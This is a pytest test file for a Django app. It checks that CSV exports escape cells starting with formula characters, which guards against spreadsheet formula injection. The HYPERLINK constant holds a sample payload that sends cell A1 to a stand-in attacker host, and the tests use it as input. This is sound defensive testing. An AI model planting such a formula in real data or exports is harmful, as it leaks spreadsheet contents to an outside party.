"""Text typed by anyone comes out of every CSV export as text, never as a formula."""

import uuid
from decimal import Decimal

import pytest
from django.urls import reverse

from insights.csv_export import FORMULA_TRIGGERS, csv_lines, spreadsheet_safe
from tests import factories
from tests.insights.test_exports import read_csv

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'


def export_column(client, url_name: str, column: str) -> list[str]:
    header, *rows = read_csv(client.get(reverse(url_name)))
    return [row[header.index(column)] for row in rows]


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=repr)
def test_observation_export_quotes_text_starting_with_a_formula_character(
    client_as, cx_lead, session_a, trigger
):
    factories.ObservationFactory(session=session_a, what_happened=f"{trigger}1+1 said the sign")

    cells = export_column(client_as(cx_lead), "insights:export-observations", "what_happened")

    assert cells == [f"'{trigger}1+1 said the sign"]


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=repr)
def test_action_export_quotes_text_starting_with_a_formula_character(
    client_as, cx_lead, store_a, trigger
):
    factories.ActionFactory(team=store_a, title=f"{trigger}SUM(A1:A9) open a second till")

    cells = export_column(client_as(cx_lead), "insights:export-actions", "title")

    assert cells == [f"'{trigger}SUM(A1:A9) open a second till"]


def test_a_formula_planted_through_capture_reaches_the_export_as_text(
    client_as, manager, executive, session_a
):
    session_a.start(by=manager)
    capture = reverse("journal:capture", kwargs={"session_id": session_a.pk})
    client_as(manager).post(
        capture,
        {
            "client_uuid": str(uuid.uuid4()),
            "touchpoint": "signage",
            "emotion": "confused",
            "intensity": "3",
            "what_happened": "The sign pointed at a locked door.",
            "quote": HYPERLINK,
            "kind": "pain_point",
            "impact": "medium",
            "journey_stage": "use",
        },
    )

    cells = export_column(client_as(executive), "insights:export-observations", "quote")

    assert cells == ["'" + HYPERLINK]


def test_plain_text_and_numbers_are_written_unchanged(client_as, cx_lead, session_a):
    observation = factories.ObservationFactory(session=session_a, what_happened="Queue = long")

    header, row = read_csv(client_as(cx_lead).get(reverse("insights:export-observations")))

    by_column = dict(zip(header, row, strict=True))
    assert by_column["id"] == str(observation.pk)
    assert by_column["intensity"] == "4"
    assert by_column["what_happened"] == "Queue = long"


@pytest.mark.parametrize("number", [-3, -0.5, Decimal("-12.50"), 0, 7])
def test_numbers_the_export_writes_itself_stay_numbers_even_when_negative(number):
    assert spreadsheet_safe(number) == number


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("-3", "'-3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\r=1", "'\r=1"),
        (None, ""),
        (True, "True"),
        ("Till 3 = closed", "Till 3 = closed"),
    ],
)
def test_text_is_judged_by_its_first_character(value, written):
    assert spreadsheet_safe(value) == written


def test_every_line_goes_through_the_same_rule_header_included():
    lines = list(csv_lines(["=id"], [["+1", 2], ["ok", None]]))

    assert lines == ["'=id\r\n", "'+1,2\r\n", "ok,\r\n"]
